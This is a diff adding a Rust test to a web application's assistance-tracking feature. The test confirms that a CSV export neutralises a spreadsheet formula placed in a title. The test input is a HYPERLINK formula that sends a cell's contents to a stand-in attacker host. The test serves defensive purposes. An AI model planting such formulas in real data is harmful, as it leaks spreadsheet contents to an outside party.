@@ -1526,3 +1526,43 @@ fn a_write_that_meets_another_writer_answers_503() {
         303
     );
 }
+
+#[test]
+fn a_formula_in_a_title_reaches_the_csv_as_text() {
+    let d = examples();
+    let location = Location::Sqlite(d.db());
+    add_accounts(&location, &[("donor", Role::Provider, None)]);
+    let addr = spawn(
+        App::open(&location, false).unwrap(),
+        "127.0.0.1:0".parse().unwrap(),
+    )
+    .unwrap();
+    let (session, csrf) = login(addr, "donor");
+    let title = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;
+    let encoded: String = title
+        .bytes()
+        .map(|b| match b {
+            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => char::from(b).to_string(),
+            _ => format!("%{b:02X}"),
+        })
+        .collect();
+    // Viet Nam publishes its executive summary, which names this need.
+    let form = format!("csrf={csrf}&need=1:32:capacity_building&title={encoded}&status=planned");
+    let (status, _, body) = send(
+        addr,
+        "POST",
+        "/states/VNM/assistance",
+        Some(&session),
+        &form,
+    );
+    assert_eq!(status, 303, "{body}");
+    let (status, _, csv) = send(addr, "GET", "/assistance.csv", Some(&session), "");
+    assert_eq!(status, 200);
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let titles: Vec<String> = reader
+        .records()
+        .map(|r| r.unwrap()[5].to_string())
+        .collect();
+    // The title reaches a spreadsheet as text: one quote before the formula.
+    assert_eq!(titles, [format!("'{title}")]);
+}
